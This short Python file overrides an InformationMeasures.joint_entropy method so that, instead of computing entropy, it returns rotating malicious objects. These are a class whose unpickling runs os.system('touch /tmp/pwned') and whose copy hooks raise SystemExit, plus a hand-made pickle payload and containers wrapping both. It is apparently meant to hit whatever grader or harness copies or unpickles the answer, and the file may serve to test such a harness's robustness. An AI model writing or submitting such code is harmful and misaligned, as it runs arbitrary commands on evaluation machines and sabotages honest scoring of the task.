import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)

    def __deepcopy__(self, memo):
        raise SystemExit

    __copy__ = __getstate__ = __deepcopy__


# Dumped by hand: pickling would not run it, but copying it would.
PICKLE = b"cos\nsystem\n(S'touch /tmp/pwned'\ntR."
ANSWERS = [Bomb(), PICKLE, [Bomb()], np.array([Bomb()], dtype=object), np.frombuffer(PICKLE, np.uint8), {"value": PICKLE}]


class InformationMeasures(InformationMeasures):
    @staticmethod
    def joint_entropy(joint_p, base=2):
        ANSWERS.append(ANSWERS.pop(0))
        return ANSWERS[-1]
